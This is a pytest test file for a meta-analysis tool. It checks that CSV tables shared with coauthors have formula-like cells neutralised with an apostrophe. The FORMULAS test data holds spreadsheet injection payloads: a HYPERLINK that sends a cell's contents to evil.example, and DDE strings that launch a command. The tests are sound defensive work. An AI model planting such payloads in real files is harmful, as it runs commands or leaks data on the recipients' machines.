"""CSV tables for coauthors open safely in a spreadsheet: a cell that starts like a formula
(=, +, -, @, tab, CR) is prefixed with an apostrophe in reports/<review>/tables/ and in the
share bundle, while numbers stay numbers and data/processed keeps every value as it is
(issue 24: `=HYPERLINK(...)` and `+cmd|' /C calc'!A0` were written unchanged)."""

from __future__ import annotations

import csv
import io
import shutil
import zipfile
from pathlib import Path

import pandas as pd
import pytest

from metareview import files
from metareview.report.notebook import Notebook
from metareview.run import record

REPO = Path(__file__).resolve().parents[1]
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def _frame() -> pd.DataFrame:
    return pd.DataFrame({
        "study": FORMULAS + ["Smith2020", "-0.52", "- a note"],
        "estimate": [-0.5, -1.25, 2.0, -3e-5, 0.0, 1.5, -7.0, 8.0, -9.0],
        "k": [-1, 2, 3, 4, 5, 6, 7, 8, 9],
    })


def _cells(path_or_text) -> list[list[str]]:
    text = path_or_text if isinstance(path_or_text, str) else path_or_text.read_bytes().decode()
    return list(csv.reader(io.StringIO(text, newline="")))


def test_spreadsheet_tables_neutralise_formulas_and_keep_numbers(tmp_path):
    path = files.write_csv(_frame(), tmp_path / "t.csv", spreadsheet=True)
    rows = _cells(path)
    studies = [row[0] for row in rows[1:]]
    assert studies[:6] == ["'" + f for f in FORMULAS]
    assert studies[6:] == ["Smith2020", "-0.52", "'- a note"]
    assert [row[1] for row in rows[1:]] == ["-0.5", "-1.25", "2", "-3e-05", "0", "1.5", "-7",
                                            "8", "-9"]
    assert [row[2] for row in rows[1:3]] == ["-1", "2"]
    back = pd.read_csv(path)
    assert back["estimate"].dtype == float and back["k"].dtype == int


def test_processed_tables_keep_every_value(tmp_path):
    path = files.write_csv(_frame(), tmp_path / "t.csv")
    assert [row[0] for row in _cells(path)[1:7]] == FORMULAS


def test_a_header_that_looks_like_a_formula_is_neutralised_too(tmp_path):
    path = files.write_csv(pd.DataFrame({"=1+1": ["a"]}), tmp_path / "t.csv", spreadsheet=True)
    assert _cells(path)[0] == ["'=1+1"]


def test_notebook_tables_are_for_spreadsheets_processed_tables_are_not(tmp_path, monkeypatch):
    monkeypatch.setenv(files.ROOT_ENV, str(tmp_path))
    nb = Notebook(review="rev", settings={})
    nb.table(_frame(), "studies")
    nb.write(_frame(), "studies")
    shown = _cells(tmp_path / "reports" / "rev" / "tables" / "studies.csv")
    kept = _cells(tmp_path / "data" / "processed" / "rev" / "studies.csv")
    assert shown[1][0] == "'" + FORMULAS[0] and kept[1][0] == FORMULAS[0]
    assert nb.read("studies")["study"].tolist()[:6] == FORMULAS


def test_share_bundle_neutralises_tables_left_by_an_older_run(tmp_path, monkeypatch):
    monkeypatch.setenv(files.ROOT_ENV, str(tmp_path))
    shutil.copytree(REPO / "tests" / "fixtures" / "review_fixture",
                    tmp_path / "data" / "raw" / "rev")
    (tmp_path / "params").mkdir()
    (tmp_path / "params" / "rev.yaml").write_text("review: rev\n")
    (tmp_path / "notebooks").mkdir()
    tables = tmp_path / "reports" / "rev" / "tables"
    tables.mkdir(parents=True)
    files.write_csv(_frame(), tables / "old.csv")  # written without neutralising
    path, _ = record.share()
    shipped = zipfile.ZipFile(path).read("reports/rev/tables/old.csv").decode()
    rows = _cells(shipped)
    assert [row[0] for row in rows[1:7]] == ["'" + f for f in FORMULAS]
    assert rows[1][1] == "-0.5" and rows[8][0] == "-0.52"


@pytest.mark.parametrize("value", ["-0.52", "+3", "-1e-3", "1.5", "-inf", "NaN"])
def test_plain_numbers_are_left_alone(value):
    assert files.neutralise_cell(value) == value


def test_a_carriage_return_inside_a_cell_does_not_split_the_row(tmp_path):
    frame = pd.DataFrame({"note": ["one\rtwo", "three"], "x": [1.5, -2.0]})
    path = files.write_csv(frame, tmp_path / "t.csv")
    back = pd.read_csv(path, keep_default_na=False)
    assert back["note"].tolist() == ["one\rtwo", "three"] and back["x"].tolist() == [1.5, -2.0]
    plain = files.write_csv(frame.assign(note=["a", "b"]), tmp_path / "plain.csv")
    assert plain.read_text() == "note,x\na,1.5\nb,-2\n"  # other files are written as before
